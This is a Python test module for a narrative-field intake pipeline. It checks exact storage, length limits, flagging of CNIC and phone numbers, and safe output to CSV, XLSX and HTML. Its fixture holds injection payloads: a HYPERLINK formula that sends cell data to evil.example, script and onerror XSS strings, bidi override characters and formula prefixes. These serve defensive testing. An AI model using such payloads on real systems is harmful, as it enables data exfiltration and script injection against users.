"""Narratives (form v2): stored exactly as sent, held to their length, flagged when they look like personal
data, and inert on every surface of the intake: receipt, problem files (CSV, XLSX) and validation report."""
from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pytest

from cop.spec import load_amendment, load_form
from intake_files import submit
from loaders.narratives import personal_data_kind
from loaders.sample import encode_return, sample_return

pytestmark = pytest.mark.xdist_group("intake_narratives")  # one module, one worker: one database

V2_MONTH = load_form().versions[1].start
RECEIVED = dt.datetime(V2_MONTH.year + 1, 2, 1, 9, 0, tzinfo=dt.timezone.utc)
FORMULA_WITH_CNIC = '=HYPERLINK("http://evil.example/?"&A1,"CNIC 35202-1234567-1")'
HOSTILE = {
    "achievement": FORMULA_WITH_CNIC,
    "challenge": "<script>alert('x')</script><b>bold</b> & <img src=x onerror=alert(1)>",
    "success_story": "\u202eگاڑی برآمد\u202c: Call 0300-1234567 \u2066RTL\u2069 +SUM(1,1) @cmd",
}
URDU = "کھلی کچہری میں پچاس شہریوں نے شرکت کی اور تین تنازعات موقع پر حل ہوئے۔"


def with_narratives(province: str, texts: dict[str, str], units: int = 4) -> list[dict]:
    amendment = load_amendment(province)
    rows = sample_return(province, V2_MONTH, units=units)
    rows[0].update({amendment.header_for(name): text for name, text in texts.items()})
    return rows


def stored(conn, submission_id) -> dict[str, str]:
    return dict(conn.execute("select narrative_code, text from raw.return_narratives where submission_id = %s",
                             (submission_id,)).fetchall())


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_hostile_narratives_are_stored_exactly_and_inert_in_every_intake_output(file_format, conn):
    rows = with_narratives("IC", HOSTILE)
    receipt = submit(encode_return(rows, "IC", file_format=file_format), "IC", V2_MONTH,
                     file_name=f"ic.{file_format}", received_at=RECEIVED)
    assert receipt.status == "accepted", receipt.summary
    assert stored(conn, receipt.submission_id) == HOSTILE

    flagged = {p.field: p for p in receipt.warnings if p.rule == "W310"}
    assert set(flagged) == {"achievement", "success_story"}
    assert "a CNIC number" in flagged["achievement"].message
    assert "a phone number" in flagged["success_story"].message
    assert flagged["achievement"].value == FORMULA_WITH_CNIC

    with (receipt.folder / "problems.csv").open(encoding="utf-8-sig", newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle) if row["rule"] == "W310"]
    assert "'" + FORMULA_WITH_CNIC in values and "'" + HOSTILE["success_story"] not in values
    sheet = openpyxl.load_workbook(receipt.folder / "problems.xlsx")["Problems"]
    cells = [row[5] for row in sheet.iter_rows(min_row=2) if row[1].value == "W310"]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
    assert "'" + FORMULA_WITH_CNIC in [cell.value for cell in cells]

    report = (receipt.folder / "report.html").read_text(encoding="utf-8")
    assert "&#34;CNIC 35202-1234567-1&#34;" in report or "&quot;CNIC 35202-1234567-1&quot;" in report
    assert "<script>" not in report and "<img" not in report


def test_urdu_narratives_in_sindhs_urdu_headed_file_are_kept_as_written(conn):
    rows = with_narratives("SD", {"achievement": URDU, "success_story": URDU + "\n" + "Second line, English."})
    receipt = submit(encode_return(rows, "SD"), "SD", V2_MONTH, received_at=RECEIVED)
    assert receipt.status == "accepted", receipt.summary
    assert not [p for p in receipt.warnings if p.rule == "W310"]
    assert stored(conn, receipt.submission_id) == {"achievement": URDU,
                                                   "success_story": URDU + "\nSecond line, English."}


@pytest.mark.parametrize("text, rule", [("x" * 501, "E046"), ("before\x1bafter", "E047")])
def test_an_overlong_or_garbled_narrative_rejects_the_file_naming_the_cell(text, rule, raw_snapshot):
    before = raw_snapshot()
    receipt = submit(encode_return(with_narratives("IC", {"challenge": text}), "IC"), "IC", V2_MONTH,
                     received_at=RECEIVED)
    assert receipt.status == "rejected"
    [error] = receipt.errors
    assert (error.rule, error.column, error.row) == (rule, "challenge", 2)
    if rule == "E046":
        assert "501 characters; at most 500" in error.message
    assert raw_snapshot() == before


def test_a_nul_byte_in_a_narrative_rejects_the_file_with_its_line(raw_snapshot):
    before = raw_snapshot()
    content = encode_return(with_narratives("IC", {"achievement": "ok\x00then"}), "IC")
    receipt = submit(content, "IC", V2_MONTH, received_at=RECEIVED)
    assert receipt.status == "rejected"
    assert [(p.rule, "NUL" in p.message) for p in receipt.errors] == [("E001", True)]
    assert raw_snapshot() == before


@pytest.mark.parametrize("text, kind", [
    ("CNIC 35202-1234567-1 of the victim", "a CNIC number"),
    ("شناختی کارڈ 3520212345671", "a CNIC number"),
    ("call +92 300 1234567", "a phone number"),
    ("رابطہ ۰۳۰۰-۱۲۳۴۵۶۷", "a phone number"),  # Eastern Arabic-Indic digits
    ("051-2345678 helpline", "a phone number"),
    ("Recovered 12 vehicles worth 3,500,000 rupees in 2025", None),
    ("FIR 1234/2025 registered", None),
])
def test_personal_data_patterns(text, kind):
    assert personal_data_kind(text) == kind
